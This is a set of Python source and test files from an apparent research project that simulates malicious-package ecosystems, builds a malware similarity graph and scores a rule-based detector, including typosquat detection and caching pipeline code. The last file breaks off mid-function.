    graph = MalGraph.build(dataset)
    return graph.node_count


@pytest.fixture(scope="module")
def sizes():
    measured = [_end_to_end(scale) for scale in SCALES]
    assert measured == sorted(measured), "output grows with scale"
    assert measured[-1] > 2 * measured[0]
    return dict(zip(SCALES, measured))


@pytest.mark.parametrize("scale", SCALES)
def test_scaling_end_to_end(benchmark, sizes, scale):
    nodes = benchmark.pedantic(_end_to_end, args=(scale,), iterations=1, rounds=2)
    assert nodes == sizes[scale]
