"""Persistence for columnar tables: one ``.npy`` per backing array.

Layout under a directory::

    <dir>/manifest.json          # format version + array names
    <dir>/<array>.npy            # one file per backing array

Arrays are written atomically (tmp + ``os.replace``) so a crashed writer
never leaves a half-valid table, and loaded with
``np.load(mmap_mode="r")`` by default: opening a scale-100 corpus costs
page tables, not RSS — rows fault in only when an accessor touches them,
which is what lets the scale-100 trajectory run under the RSS ceiling.
The pipeline's ``ArtifactStore`` points a cache slot at such a
directory; see ``repro.pipeline.stages.ColumnarCodec``.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Dict, Optional, Union

import numpy as np

from repro.core.columnar.events import EventTable
from repro.core.columnar.tables import ColumnarDataset
from repro.errors import DatasetError

PathLike = Union[str, Path]

#: bump when the array schema changes incompatibly
COLUMNAR_FORMAT = 1


def _write_arrays(arrays: Dict[str, np.ndarray], directory: Path, kind: str) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    for name, array in arrays.items():
        tmp = directory / f".{name}.npy.tmp"
        with tmp.open("wb") as handle:
            np.save(handle, np.ascontiguousarray(array))
        os.replace(tmp, directory / f"{name}.npy")
    manifest = {
        "format": COLUMNAR_FORMAT,
        "kind": kind,
        "arrays": sorted(arrays),
    }
    tmp = directory / ".manifest.json.tmp"
    tmp.write_text(json.dumps(manifest, indent=2, sort_keys=True))
    os.replace(tmp, directory / "manifest.json")
    return directory


def _read_arrays(
    directory: Path, kind: str, mmap: bool
) -> Dict[str, np.ndarray]:
    manifest_path = directory / "manifest.json"
    if not manifest_path.is_file():
        raise DatasetError(f"no columnar manifest under {directory}")
    manifest = json.loads(manifest_path.read_text())
    if manifest.get("format") != COLUMNAR_FORMAT:
        raise DatasetError(
            f"columnar format {manifest.get('format')!r} != {COLUMNAR_FORMAT}"
        )
    if manifest.get("kind") != kind:
        raise DatasetError(
            f"columnar table kind {manifest.get('kind')!r}, expected {kind!r}"
        )
    mode = "r" if mmap else None
    return {
        name: np.load(directory / f"{name}.npy", mmap_mode=mode)
        for name in manifest["arrays"]
    }


def save_columnar(dataset: ColumnarDataset, directory: PathLike) -> Path:
    """Write every backing array (pool included) under ``directory``."""
    return _write_arrays(dataset.arrays(), Path(directory), kind="dataset")


def load_columnar(directory: PathLike, mmap: bool = True) -> ColumnarDataset:
    """Load a table written by :func:`save_columnar`; memory-mapped
    unless ``mmap=False`` (then fully materialised in RAM)."""
    return ColumnarDataset.from_array_map(
        _read_arrays(Path(directory), kind="dataset", mmap=mmap)
    )


def save_event_table(table: EventTable, directory: PathLike) -> Path:
    return _write_arrays(table.arrays(), Path(directory), kind="events")


def load_event_table(directory: PathLike, mmap: bool = True) -> EventTable:
    return EventTable.from_array_map(
        _read_arrays(Path(directory), kind="events", mmap=mmap)
    )
