"""Wire-schema validation and format-drift quarantine, unit to end-to-end."""

from __future__ import annotations

import json

import pytest

from repro.connectors import WIRE_SCHEMA, encode_wire, record_key, validate_wire
from repro.ecosystem.package import PackageId
from repro.intel.sources import SourceEntry
from repro.io.datasets import entry_to_dict
from repro.reliability import FaultPlan, corrupt_wire
from repro.world import run_collection

PLAN_SEED = 11


def entry(name="left-pad", version="1.0.0") -> SourceEntry:
    return SourceEntry(
        source="maloss",
        package=PackageId(ecosystem="npm", name=name, version=version),
        report_day=120,
        shares_artifact=True,
        campaign_id="c-1",
        release_day=100,
        primary=False,
    )


# -- validate_wire -----------------------------------------------------------

def test_encoded_entry_validates_clean():
    wire = encode_wire(entry())
    assert validate_wire(wire) == []
    assert wire["_record"] is not None  # transport-private, not a violation
    assert record_key(wire) == "npm|left-pad|1.0.0"


def test_missing_and_unknown_fields_are_violations():
    wire = encode_wire(entry())
    del wire["name"]
    wire["package_name"] = "left-pad"
    problems = validate_wire(wire)
    assert any("missing field 'name'" in p for p in problems)
    assert any("unknown field 'package_name'" in p for p in problems)


def test_type_check_is_exact_not_isinstance():
    wire = encode_wire(entry())
    wire["report_day"] = True  # bool subclasses int; still drift
    assert validate_wire(wire)
    wire = encode_wire(entry())
    wire["report_day"] = "120"
    assert validate_wire(wire)


@pytest.mark.parametrize("kind", ["record_malformed", "record_renamed"])
def test_corrupt_wire_always_breaks_the_schema(kind):
    clean = encode_wire(entry())
    bad = corrupt_wire(clean, kind)
    assert bad is not clean  # original untouched
    assert validate_wire(clean) == []
    assert validate_wire(bad)
    assert bad["_fault"] == kind


def test_wire_schema_matches_encode_wire_fields():
    wire = encode_wire(entry())
    public = {k for k in wire if not k.startswith("_")}
    assert public == set(WIRE_SCHEMA)


# -- end-to-end drift plan ---------------------------------------------------

@pytest.fixture(scope="module")
def drifting(request):
    small_world = request.getfixturevalue("small_world")
    return run_collection(
        small_world, plan=FaultPlan.drifting(PLAN_SEED)
    )


def test_drift_books_are_exact(drifting):
    """Every injected record fault is quarantined exactly once, and the
    record kinds never leak into the raise-based error books."""
    report = drifting.stats.degradation
    injected_drift = sum(
        count
        for kind, count in report.faults_injected.items()
        if kind.startswith("record_")
    )
    assert injected_drift > 0  # the plan actually drifted records
    assert injected_drift == sum(report.quarantine_by_kind.values())
    assert injected_drift == sum(report.quarantined_records.values())
    assert set(report.quarantine_by_kind) <= {
        "record_malformed",
        "record_renamed",
    }
    # the raise-based invariant still balances for everything else
    non_drift = sum(
        count
        for kind, count in report.faults_injected.items()
        if not kind.startswith("record_")
    )
    assert non_drift == sum(report.errors_by_kind.values())
    assert non_drift == report.errors_recovered + report.errors_fatal
    assert not any(k.startswith("record_") for k in report.errors_by_kind)


def test_drift_degrades_without_aborting_sources(drifting):
    """Quarantine is per record: drifted feeds still contribute and the
    run completes degraded, with no dataset source lost entirely."""
    stats = drifting.stats
    assert stats.degraded
    report = stats.degradation
    assert report.quarantined_records
    for source in report.quarantined_records:
        assert source not in report.skipped_sources
    assert drifting.dataset.entries


def test_drift_shows_up_in_source_health(drifting):
    health = drifting.stats.source_health
    for source, count in drifting.stats.degradation.quarantined_records.items():
        assert health[source]["state"] == "degraded"
        assert health[source]["quarantined_total"] == count


def test_drifted_survivors_keep_canonical_bytes(drifting, small_collection):
    """Records that survive drift are the attribution objects themselves:
    every surviving entry is byte-identical to its fault-free twin."""
    clean = {
        (e.package.ecosystem, e.package.name, e.package.version): entry_to_dict(e)
        for e in small_collection.dataset.entries
    }
    for survivor in drifting.dataset.entries:
        key = (
            survivor.package.ecosystem,
            survivor.package.name,
            survivor.package.version,
        )
        twin = clean.get(key)
        if twin is None:
            continue  # lost claims can shift merge output; identity is per claim set
        survivor_raw = entry_to_dict(survivor)
        if survivor_raw["claims"] == twin["claims"]:
            assert json.dumps(survivor_raw, sort_keys=True) == json.dumps(
                twin, sort_keys=True
            )


def test_drifting_is_a_registered_preset():
    assert "drifting" in FaultPlan.PRESETS
    plan = FaultPlan.preset("drifting", seed=3)
    assert plan.record_malform_rate > 0 and plan.record_rename_rate > 0
    assert FaultPlan.from_dict(plan.to_dict()) == plan
    # moderate must NOT drift: its byte-identity guarantee depends on it
    moderate = FaultPlan.moderate(3)
    assert moderate.record_malform_rate == 0
    assert moderate.record_rename_rate == 0
