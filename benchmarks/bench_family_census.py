"""Conclusion claim — the corpus covers hundreds of malware families.

The paper's conclusion: the dataset covers "200+ malware families". Our
families are similarity groups labelled by the static behaviour
classifier. Measured shapes: the census finds a three-digit family
count (scaled world), information-stealing dominates (the paper's most
cited behaviours are stealers), and the classifier agrees with ground
truth on the large majority of grouped packages — the RQ2 insight that
today's corpus shows known behaviours, not novel ones.
"""

from __future__ import annotations

import pytest

from repro.analysis.families import compute_family_census


def test_family_census(benchmark, artifacts, show):
    census = benchmark(compute_family_census, artifacts.malgraph)
    show("Malware family census (conclusion: '200+ malware families')", census.render())

    assert census.total_families > 50, (
        "a scaled-down world still yields a large family population "
        "(the paper's full corpus has 200+)"
    )
    assert census.accuracy > 0.8, (
        "known behaviours dominate: static classification agrees with "
        "ground truth"
    )
    by_category = {row.category: row for row in census.rows}
    assert "information-stealing" in by_category
    top = census.rows[0]
    assert top.packages >= max(r.packages for r in census.rows)
