#!/usr/bin/env python
"""Detector triage: scan packages with the rule-based detector.

Plays the role of the security companies in the paper's ecosystem: a
GuardDog-style static scanner sweeps the simulated registries, flags
suspicious packages, and explains each verdict. The simulator's ground
truth then scores the detector (precision / recall / F1).

Run::

    python examples/detector_triage.py
"""

from __future__ import annotations

from repro.detection import Detector, RegistryScanner, evaluate_on_corpus
from repro.world import WorldConfig, build_world


def main() -> None:
    world = build_world(WorldConfig(seed=13, scale=0.3))

    print("Scoring the detector against simulator ground truth ...")
    evaluation = evaluate_on_corpus(world.corpus, sample=400)
    print(evaluation.render())

    print("\nSweeping the registries for alerts ...")
    scanner = RegistryScanner(Detector())
    alerts = scanner.sweep_hub(world.registries)
    print(f"  {len(alerts)} alerts raised")

    print("\nThree sample verdicts, with explanations:")
    for alert in alerts[:3]:
        verdict = alert.verdict
        print(f"\n  {alert.ecosystem}:{alert.name}@{alert.version} "
              f"(score {verdict.score:.2f})")
        for line in verdict.explain().splitlines():
            print(f"    {line}")


if __name__ == "__main__":
    main()
