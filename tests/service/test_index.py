"""IntelIndex completeness and lookup semantics against the dataset."""

from __future__ import annotations

import pytest

from repro.core.edges import node_id
from repro.core.groups import GroupKind
from repro.intel.sources import SOURCE_PROFILES
from repro.service.index import IntelIndex, source_reliability


def test_every_package_resolvable_by_name_and_version(intel_index, small_dataset):
    for entry in small_dataset.entries:
        found = intel_index.lookup_name_version(
            entry.package.name, entry.package.version, entry.package.ecosystem
        )
        assert entry in found


def test_every_available_package_resolvable_by_sha256(intel_index, small_dataset):
    for entry in small_dataset.available_entries():
        assert entry in intel_index.lookup_sha256(entry.sha256())


def test_name_lookup_is_case_insensitive(intel_index, small_dataset):
    entry = small_dataset.entries[0]
    assert intel_index.lookup_name(entry.package.name.upper())


def test_ecosystem_index_matches_dataset_view(intel_index, small_dataset):
    for ecosystem in ("pypi", "npm"):
        held = {e.package for e in intel_index.lookup_ecosystem(ecosystem)}
        expected = {e.package for e in small_dataset.for_ecosystem(ecosystem)}
        assert held == expected


@pytest.mark.parametrize("kind", list(GroupKind))
def test_group_index_mirrors_group_extraction(
    intel_index, service_malgraph, kind
):
    groups = service_malgraph.groups(kind)
    for i, group in enumerate(groups):
        group_id = f"{kind.value}-{i:04d}"
        assert intel_index.group_kind(group_id) is kind
        held = {e.package for e in intel_index.lookup_group(group_id)}
        assert held == {m.package for m in group.members}


def test_families_and_campaigns_split_by_kind(intel_index):
    for pid, groups in intel_index._groups_of.items():
        families = set(intel_index.families_of(pid))
        campaigns = set(intel_index.campaigns_of(pid))
        assert families | campaigns == set(groups)
        assert not families & campaigns


def test_actor_index_covers_report_aliases(intel_index, small_dataset):
    for report in small_dataset.reports:
        if not report.actor_alias:
            continue
        resolvable = [p for p in report.packages if small_dataset.get(p)]
        held = {e.package for e in intel_index.lookup_actor(report.actor_alias)}
        assert set(resolvable) <= held


def test_related_returns_graph_neighbours(intel_index, service_malgraph):
    groups = service_malgraph.groups(GroupKind.SG)
    assert groups, "small world should have at least one similarity group"
    group = groups[0]
    first, second = group.members[0], group.members[1]
    related = intel_index.related(first.package, limit=10_000)
    assert node_id(second.package) in related
    assert node_id(first.package) not in related


def test_near_names_finds_single_edit_mutations(intel_index, small_dataset):
    name = small_dataset.entries[0].package.name
    mutated = name[:-1] + ("x" if name[-1] != "x" else "y")
    hits = dict(intel_index.near_names(mutated))
    assert name.lower() in hits
    assert hits[name.lower()] == 1


def test_near_names_excludes_exact_match(intel_index, small_dataset):
    name = small_dataset.entries[0].package.name
    assert all(held != name.lower() or d > 0 for held, d in intel_index.near_names(name))


def test_source_reliability_orders_sectors():
    by_key = {p.key: source_reliability(p) for p in SOURCE_PROFILES}
    assert all(0.0 < score < 1.0 for score in by_key.values())
    assert by_key["datadog"] > by_key["blogs"]  # industry above individual


def test_source_profiles_sorted_by_reliability(intel_index, small_dataset):
    rows = intel_index.source_profiles(small_dataset.entries[:50])
    assert rows
    assert rows == sorted(rows, key=lambda r: (-r["reliability"], r["key"]))


def test_stats_counters(intel_index, small_dataset):
    stats = intel_index.stats()
    assert stats["packages"] == len(small_dataset)
    assert 0 < stats["names"] <= stats["packages"]
    assert stats["signatures"] == len(
        {e.sha256() for e in small_dataset.available_entries()}
    )
    assert stats["reports"] == len(small_dataset.reports)


def test_build_from_malgraph_carries_graph(intel_index, service_malgraph):
    assert intel_index.graph is service_malgraph.graph
    assert intel_index.package_count == len(service_malgraph.dataset)
