"""Damerau-Levenshtein distance and the typosquat index."""

from __future__ import annotations

import random

import pytest
from hypothesis import given, settings, strategies as st

from repro.detection.typosquat import (
    SquatMatch,
    TyposquatIndex,
    _normalize,
    damerau_levenshtein,
)
from repro.malware.naming import POPULAR_NAMES, combosquat, typosquat

names = st.text(alphabet="abcdefgh-", min_size=1, max_size=12)


# -- distance ------------------------------------------------------------------

def test_distance_identity():
    assert damerau_levenshtein("requests", "requests") == 0


@pytest.mark.parametrize(
    "a, b, expected",
    [
        ("requests", "request", 1),  # deletion
        ("requests", "requestss", 1),  # insertion
        ("requests", "requosts", 1),  # substitution
        ("requests", "reqeusts", 1),  # transposition
        ("react", "chalk", 4),  # capped far-apart
    ],
)
def test_distance_single_edits(a, b, expected):
    assert damerau_levenshtein(a, b) == expected


def test_distance_cap_on_length_gap():
    assert damerau_levenshtein("ab", "abcdefgh", cap=4) == 4


def test_distance_cap_respected():
    assert damerau_levenshtein("aaaa", "bbbb", cap=3) == 3


@given(names, names)
@settings(max_examples=120, deadline=None)
def test_distance_symmetry(a, b):
    assert damerau_levenshtein(a, b) == damerau_levenshtein(b, a)


@given(names, names)
@settings(max_examples=120, deadline=None)
def test_distance_positivity(a, b):
    d = damerau_levenshtein(a, b)
    assert 0 <= d <= 4
    assert (d == 0) == (a == b)


@given(names, names, names)
@settings(max_examples=80, deadline=None)
def test_distance_triangle_inequality_within_cap(a, b, c):
    cap = 50
    ab = damerau_levenshtein(a, b, cap=cap)
    bc = damerau_levenshtein(b, c, cap=cap)
    ac = damerau_levenshtein(a, c, cap=cap)
    assert ac <= ab + bc


# -- index ------------------------------------------------------------------

def test_normalize_strips_separators_and_case():
    assert _normalize("Beautiful-Soup_4.x") == "beautifulsoup4x"


def test_index_flags_typosquats():
    index = TyposquatIndex()
    rng = random.Random(0)
    for _ in range(30):
        target = rng.choice(POPULAR_NAMES["pypi"])
        squatted = typosquat(target, rng)
        match = index.check("pypi", squatted)
        assert match is not None, f"{squatted!r} should be flagged"
        assert match.distance <= 2


def test_index_flags_combosquats():
    index = TyposquatIndex()
    rng = random.Random(1)
    for _ in range(30):
        target = rng.choice(POPULAR_NAMES["npm"])
        squatted = combosquat(target, rng)
        match = index.check("npm", squatted)
        assert match is not None
        assert match.kind in ("typo", "combo")


def test_index_popular_name_itself_is_clean():
    index = TyposquatIndex()
    for target in POPULAR_NAMES["pypi"]:
        assert index.check("pypi", target) is None


def test_index_unrelated_name_is_clean():
    index = TyposquatIndex()
    assert index.check("pypi", "zzqxv-internal-metrics") is None


def test_index_unknown_ecosystem_is_clean():
    index = TyposquatIndex()
    assert index.check("nonexistent", "requests1") is None


def test_index_prefers_typo_over_combo_across_targets():
    """'pandaz' is a combo of 'pan' but a distance-1 typo of 'pandas';
    the stronger typo interpretation wins."""
    index = TyposquatIndex(popular={"pypi": ["pan", "pandas"]})
    match = index.check("pypi", "pandaz")
    assert match.kind == "typo"
    assert match.target == "pandas"


def test_index_normalization_collision_is_distance_zero():
    index = TyposquatIndex()
    match = index.check("pypi", "scipy-")
    assert match is not None
    assert match.kind == "typo"
    assert match.distance == 0
    assert match.target == "scipy"


def test_index_custom_popular_set():
    index = TyposquatIndex(popular={"pypi": ["leftpad"]})
    assert index.check("pypi", "leftpa") is not None
    assert index.check("pypi", "requests1") is None
