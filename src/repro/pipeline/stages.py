"""The stage DAG: ``world -> collection -> malgraph`` behind one runtime.

:class:`PipelineRuntime` binds a configuration (``WorldConfig`` +
``SimilarityConfig``) to an :class:`~repro.pipeline.store.ArtifactStore`
and a :class:`~repro.pipeline.report.PipelineReport`. Each stage resolves
through the store — memory tier first, then disk, then a build — and
every resolution is recorded in the report with its wall time.

The world stage is memory-only (a :class:`~repro.world.World` holds live
registries, mirrors and a simulated web; persisting it buys nothing the
downstream artifacts don't already capture). The collection and malgraph
stages persist to disk through the :mod:`repro.io` JSON formats, which
is what makes a warmed cache survive into new processes.
"""

from __future__ import annotations

import time
from pathlib import Path
from typing import TYPE_CHECKING, Optional

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.core.columnar import ColumnarMalwareDataset

from repro.collection.pipeline import CollectionResult
from repro.collection.records import MalwareDataset
from repro.core.malgraph import MalGraph
from repro.core.similarity import SimilarityConfig
from repro.pipeline.fingerprint import (
    config_payload,
    delta_fingerprint,
    fingerprint,
)
from repro.pipeline.report import (
    PipelineReport,
    SOURCE_BUILD,
    SOURCE_DISK,
    SOURCE_ELIDED,
    SOURCE_MEMORY,
    STATUS_HIT,
    STATUS_MISS,
)
from repro.pipeline.store import ArtifactStore
from repro.world import World, WorldConfig, build_world, collect

STAGE_WORLD = "world"
STAGE_COLLECTION = "collection"
STAGE_MALGRAPH = "malgraph"
#: delta-evolved malgraph artifacts (addressed by base fp + batch hash)
STAGE_DELTA = "malgraph_delta"
#: columnar encoding of the collected dataset (DESIGN.md §12) — a
#: sibling tier off the collection stage whose disk form memory-maps
STAGE_COLUMNAR = "columnar"

#: Resolution order; each stage's direct input is the one before it.
STAGES = (STAGE_WORLD, STAGE_COLLECTION, STAGE_MALGRAPH)


class CollectionCodec:
    """Disk format for a :class:`CollectionResult`: the dataset via
    :mod:`repro.io.datasets` JSONL plus the pipeline stats as JSON."""

    STATS_FILENAME = "stats.json"

    def save(self, result: CollectionResult, directory: Path) -> None:
        import json

        from repro.io.datasets import collection_stats_to_dict, save_dataset

        save_dataset(result.dataset, directory)
        (directory / self.STATS_FILENAME).write_text(
            json.dumps(collection_stats_to_dict(result.stats), sort_keys=True)
        )

    def load(self, directory: Path) -> CollectionResult:
        import json

        from repro.io.datasets import collection_stats_from_dict, load_dataset

        dataset = load_dataset(directory)
        stats = collection_stats_from_dict(
            json.loads((directory / self.STATS_FILENAME).read_text())
        )
        return CollectionResult(dataset=dataset, stats=stats)


class MalGraphCodec:
    """Disk format for a built MALGRAPH; loading re-links the graph's
    group structures against the dataset the graph was built from."""

    def __init__(self, dataset: MalwareDataset):
        self.dataset = dataset

    def save(self, malgraph: MalGraph, directory: Path) -> None:
        from repro.io.malgraphs import save_malgraph

        save_malgraph(malgraph, directory)

    def load(self, directory: Path) -> MalGraph:
        from repro.io.malgraphs import load_malgraph

        return load_malgraph(directory, self.dataset)


class ColumnarCodec:
    """Disk format for the columnar corpus: one ``.npy`` per backing
    array plus a manifest (see :mod:`repro.core.columnar.io`). Loads
    memory-mapped, so a disk hit costs page tables — not RSS."""

    def save(self, dataset, directory: Path) -> None:
        from repro.core.columnar import ColumnarMalwareDataset, save_columnar

        columnar = (
            dataset.columnar
            if isinstance(dataset, ColumnarMalwareDataset)
            else dataset
        )
        save_columnar(columnar, directory)

    def load(self, directory: Path):
        from repro.core.columnar import ColumnarMalwareDataset, load_columnar

        return ColumnarMalwareDataset(load_columnar(directory, mmap=True))


class MalGraphBundleCodec:
    """Disk format for a delta-evolved MALGRAPH: dataset + graph in one
    directory. Unlike :class:`MalGraphCodec`, the dataset travels with
    the graph — an evolved dataset has no collection fingerprint of its
    own to re-link against."""

    def save(self, malgraph: MalGraph, directory: Path) -> None:
        from repro.io.malgraphs import save_malgraph_bundle

        save_malgraph_bundle(malgraph, directory)

    def load(self, directory: Path) -> MalGraph:
        from repro.io.malgraphs import load_malgraph_bundle

        return load_malgraph_bundle(directory)


class PipelineRuntime:
    """Resolve pipeline stages for one configuration through the store."""

    def __init__(
        self,
        config: Optional[WorldConfig] = None,
        similarity: Optional[SimilarityConfig] = None,
        store: Optional[ArtifactStore] = None,
        report: Optional[PipelineReport] = None,
        fault_plan=None,
        retry_policy=None,
        allow_degraded: bool = False,
    ):
        from repro import pipeline as _pipeline

        self.config = config if config is not None else WorldConfig()
        self.similarity = (
            similarity if similarity is not None else SimilarityConfig()
        )
        self.store = store if store is not None else _pipeline.get_store()
        self.report = report if report is not None else _pipeline.get_report()
        #: Chaos knobs (repro.reliability.FaultPlan / RetryPolicy). The
        #: plan and retry budget are part of the collection/malgraph
        #: fingerprints — a chaos run never aliases a clean artifact.
        self.fault_plan = fault_plan
        self.retry_policy = retry_policy
        #: A degraded collection artifact is refused by the cache unless
        #: the caller opts in (it would silently poison every downstream
        #: consumer of that fingerprint otherwise).
        self.allow_degraded = allow_degraded
        #: head of the delta chain: (fingerprint, malgraph) of the last
        #: advance(); None until the first advance
        self._head_fingerprint: Optional[str] = None
        self._head_malgraph: Optional[MalGraph] = None

    # -- fingerprints ------------------------------------------------------
    def _max_retries(self) -> Optional[int]:
        if self.retry_policy is None:
            return None
        return self.retry_policy.max_retries

    def fingerprint(self, stage: str) -> str:
        if stage == STAGE_MALGRAPH:
            return fingerprint(
                stage,
                self.config,
                self.similarity,
                fault_plan=self.fault_plan,
                max_retries=self._max_retries(),
            )
        if stage in (STAGE_COLLECTION, STAGE_COLUMNAR):
            # The columnar tier is a lossless re-encoding of the
            # collection output, so it shares that stage's inputs.
            return fingerprint(
                stage,
                self.config,
                fault_plan=self.fault_plan,
                max_retries=self._max_retries(),
            )
        # The world stage is untouched by fault injection: faults wrap the
        # finished world's substrates at collection time.
        return fingerprint(stage, self.config)

    def _config_payload(self, stage: str) -> dict:
        if stage == STAGE_MALGRAPH:
            return config_payload(
                self.config,
                self.similarity,
                fault_plan=self.fault_plan,
                max_retries=self._max_retries(),
            )
        if stage in (STAGE_COLLECTION, STAGE_COLUMNAR):
            return config_payload(
                self.config,
                fault_plan=self.fault_plan,
                max_retries=self._max_retries(),
            )
        return config_payload(self.config)

    # -- public stage accessors -------------------------------------------
    def world(self) -> World:
        return self._resolve_world()

    def collection(self) -> CollectionResult:
        return self._resolve_collection()

    def dataset(self) -> MalwareDataset:
        return self.collection().dataset

    def malgraph(self) -> MalGraph:
        return self._resolve_malgraph()

    def columnar(self) -> "ColumnarMalwareDataset":
        """The collected dataset as a columnar corpus (lazy facade).

        Resolves memory -> disk -> build like every other stage. A disk
        hit memory-maps the arrays and *elides the whole upstream chain*:
        the world is never simulated and the collection JSONL is never
        parsed — the defining win of the columnar tier for analysis-only
        processes.
        """
        return self._resolve_columnar()

    def warm(self) -> "PipelineRuntime":
        """Resolve the full analysis path (persisting what is cacheable)."""
        self.malgraph()
        return self

    def advance(self, events) -> MalGraph:
        """Advance the malgraph head by one event batch (delta stage).

        The resulting artifact is addressed by
        :func:`~repro.pipeline.fingerprint.delta_fingerprint` — the head
        fingerprint chained with the batch hash — so re-running the same
        event sequence resolves from cache tier-by-tier exactly like the
        cold stages. Successive calls chain: each advance's output is
        the next one's base.
        """
        from repro.core.delta.events import event_batch_hash

        events = list(events)
        base_fp = (
            self._head_fingerprint
            if self._head_fingerprint is not None
            else self.fingerprint(STAGE_MALGRAPH)
        )
        fp = delta_fingerprint(base_fp, event_batch_hash(events))
        started = time.perf_counter()
        held = self.store.get_memory(STAGE_DELTA, fp)
        if held is not None:
            self._set_head(fp, held)
            self.report.record(
                STAGE_DELTA, STATUS_HIT, SOURCE_MEMORY,
                time.perf_counter() - started, fp,
            )
            return held
        codec = MalGraphBundleCodec()
        if self.store.has_disk(STAGE_DELTA, fp):
            held = self.store.get_disk(STAGE_DELTA, fp, codec)
            if held is not None:
                self.store.put_memory(STAGE_DELTA, fp, held)
                self._set_head(fp, held)
                self.report.record(
                    STAGE_DELTA, STATUS_HIT, SOURCE_DISK,
                    time.perf_counter() - started, fp,
                )
                return held
        base = (
            self._head_malgraph
            if self._head_malgraph is not None
            else self.malgraph()
        )
        started = time.perf_counter()
        updated, delta_report = base.apply_delta(
            events, store=self.store, similarity=self.similarity
        )
        self.report.record_substage(
            STAGE_DELTA, "apply_delta", delta_report.seconds,
            {"summary": delta_report.summary()},
        )
        self.store.put_memory(STAGE_DELTA, fp, updated)
        payload = dict(self._config_payload(STAGE_MALGRAPH))
        payload["delta"] = {
            "base": base_fp,
            "batch_hash": event_batch_hash(events),
            "events": len(events),
        }
        self.store.put_disk(STAGE_DELTA, fp, updated, codec, payload)
        self.report.record(
            STAGE_DELTA, STATUS_MISS, SOURCE_BUILD,
            time.perf_counter() - started, fp,
        )
        self._set_head(fp, updated)
        return updated

    def _set_head(self, fp: str, malgraph: MalGraph) -> None:
        self._head_fingerprint = fp
        self._head_malgraph = malgraph

    # -- bookkeeping -------------------------------------------------------
    def _record(
        self, stage: str, status: str, source: str, started: float
    ) -> None:
        self.report.record(
            stage,
            status,
            source,
            time.perf_counter() - started,
            self.fingerprint(stage),
        )

    def _record_elided(self, *stages: str) -> None:
        """Stages a cache hit made unnecessary count as zero-cost hits."""
        for stage in stages:
            self.report.record(
                stage, STATUS_HIT, SOURCE_ELIDED, 0.0, self.fingerprint(stage)
            )

    # -- resolution --------------------------------------------------------
    def _resolve_world(self) -> World:
        fp = self.fingerprint(STAGE_WORLD)
        started = time.perf_counter()
        world = self.store.get_memory(STAGE_WORLD, fp)
        if world is not None:
            self._record(STAGE_WORLD, STATUS_HIT, SOURCE_MEMORY, started)
            return world
        world = build_world(self.config)
        self.store.put_memory(STAGE_WORLD, fp, world)
        self._record(STAGE_WORLD, STATUS_MISS, SOURCE_BUILD, started)
        return world

    def _resolve_collection(self) -> CollectionResult:
        fp = self.fingerprint(STAGE_COLLECTION)
        started = time.perf_counter()
        result = self.store.get_memory(STAGE_COLLECTION, fp)
        if result is not None:
            self._record(STAGE_COLLECTION, STATUS_HIT, SOURCE_MEMORY, started)
            self._record_elided(STAGE_WORLD)
            return result
        codec = CollectionCodec()
        if self.store.has_disk(STAGE_COLLECTION, fp):
            result = self.store.get_disk(STAGE_COLLECTION, fp, codec)
            if result is not None:
                self.store.put_memory(STAGE_COLLECTION, fp, result)
                self._record(STAGE_COLLECTION, STATUS_HIT, SOURCE_DISK, started)
                self._record_elided(STAGE_WORLD)
                return result
        world = self._resolve_world()
        started = time.perf_counter()
        if self.fault_plan is not None:
            from repro.world import run_collection

            result = run_collection(
                world, plan=self.fault_plan, policy=self.retry_policy
            )
        else:
            result = collect(world)
        if result.stats.degraded and not self.allow_degraded:
            # Quarantine: a degraded artifact must not poison the cache —
            # it resolves for this call only and is rebuilt next time.
            self._record(STAGE_COLLECTION, STATUS_MISS, SOURCE_BUILD, started)
            return result
        self.store.put_memory(STAGE_COLLECTION, fp, result)
        self.store.put_disk(
            STAGE_COLLECTION, fp, result, codec, self._config_payload(STAGE_COLLECTION)
        )
        self._record(STAGE_COLLECTION, STATUS_MISS, SOURCE_BUILD, started)
        return result

    def _resolve_columnar(self) -> "ColumnarMalwareDataset":
        fp = self.fingerprint(STAGE_COLUMNAR)
        started = time.perf_counter()
        held = self.store.get_memory(STAGE_COLUMNAR, fp)
        if held is not None:
            self._record(STAGE_COLUMNAR, STATUS_HIT, SOURCE_MEMORY, started)
            self._record_elided(STAGE_COLLECTION, STAGE_WORLD)
            return held
        codec = ColumnarCodec()
        if self.store.has_disk(STAGE_COLUMNAR, fp):
            held = self.store.get_disk(STAGE_COLUMNAR, fp, codec)
            if held is not None:
                self.store.put_memory(STAGE_COLUMNAR, fp, held)
                self._record(STAGE_COLUMNAR, STATUS_HIT, SOURCE_DISK, started)
                self._record_elided(STAGE_COLLECTION, STAGE_WORLD)
                return held
        from repro.core.columnar import ColumnarDataset, ColumnarMalwareDataset

        result = self._resolve_collection()
        started = time.perf_counter()
        held = ColumnarMalwareDataset(
            ColumnarDataset.from_dataset(result.dataset)
        )
        if result.stats.degraded and not self.allow_degraded:
            # Same quarantine as the collection stage: a degraded corpus
            # must not become a cached columnar artifact.
            self._record(STAGE_COLUMNAR, STATUS_MISS, SOURCE_BUILD, started)
            return held
        self.store.put_memory(STAGE_COLUMNAR, fp, held)
        self.store.put_disk(
            STAGE_COLUMNAR, fp, held, codec, self._config_payload(STAGE_COLUMNAR)
        )
        self._record(STAGE_COLUMNAR, STATUS_MISS, SOURCE_BUILD, started)
        return held

    def _resolve_malgraph(self) -> MalGraph:
        fp = self.fingerprint(STAGE_MALGRAPH)
        started = time.perf_counter()
        malgraph = self.store.get_memory(STAGE_MALGRAPH, fp)
        if malgraph is not None:
            self._record(STAGE_MALGRAPH, STATUS_HIT, SOURCE_MEMORY, started)
            self._record_elided(STAGE_COLLECTION, STAGE_WORLD)
            return malgraph
        if self.store.has_disk(STAGE_MALGRAPH, fp):
            # Loading needs the dataset, so the collection stage resolves
            # (and reports) itself; only stages nothing touched are elided.
            dataset = self.dataset()
            started = time.perf_counter()
            malgraph = self.store.get_disk(
                STAGE_MALGRAPH, fp, MalGraphCodec(dataset)
            )
            if malgraph is not None:
                self.store.put_memory(STAGE_MALGRAPH, fp, malgraph)
                self._record(STAGE_MALGRAPH, STATUS_HIT, SOURCE_DISK, started)
                return malgraph
        dataset = self.dataset()
        started = time.perf_counter()
        malgraph = MalGraph.build(dataset, self.similarity, store=self.store)
        timings = malgraph.similar.clustering.timings
        if timings is not None:
